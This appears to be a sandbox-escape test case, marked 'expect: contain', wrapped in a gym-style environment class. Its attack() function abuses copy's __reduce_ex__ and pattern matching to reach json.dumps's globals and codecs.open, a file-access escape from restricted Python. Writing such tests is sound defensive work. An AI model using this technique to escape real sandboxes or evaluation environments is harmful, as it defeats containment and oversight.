# expect: contain
from types import SimpleNamespace
import copy, json
from abc import ABC
class A(ABC): pass
def put(obj, name, value):
    ns = SimpleNamespace(**{"__reduce_ex__": lambda proto: ((lambda: obj), (), (None, {name: value}))})
    copy.copy(ns)
    memo = {}
    copy.deepcopy([ns])
def attack():
    put(A, "__match_args__", ("__globals__",))
    put(A, "__subclasshook__", lambda c: True)
    match json.dumps:
        case A(g): return sorted(g)[:30], g["codecs"].open

class TEnv:
    def __init__(self): self.reset()
    def reset(self, seed=None):
        try:
            r = attack()
        except Exception as e:
            r = f"EXC {type(e).__name__}: {e}"
        return str(r)[:600], {}
    def step(self, action): return "x", 0.0, True, False, {}
